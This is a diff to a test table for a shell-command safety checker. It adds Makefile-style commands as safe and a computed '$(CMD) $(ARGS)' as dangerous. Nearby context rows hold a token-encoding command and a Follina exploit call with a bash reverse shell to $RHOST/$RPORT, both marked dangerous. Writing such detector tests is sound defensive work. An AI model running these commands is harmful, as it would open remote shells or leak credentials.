@@ -3978,6 +3978,11 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['printf "[I] Waiting for %s" "$SECRET_YML_PATH"', false],
     ['[[ $identities =~ $pat ]]', false],
     ['echo "$GITHUB_TOKEN" | base64', true, 'GITHUB_TOKEN'],
+    // A Makefile's one-word tool names and a toolchain's prefix before a fixed name; a generic command holder stays computed.
+    ['$(SHELLCHECK) discord.sh', false],
+    ['$(CROSS_COMPILE)strip $(MODULE_NAME).ko --strip-unneeded', false],
+    ['${PREFIX}mypy $SOURCE_FILES', false],
+    ['$(CMD) $(ARGS)', true, 'computed'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
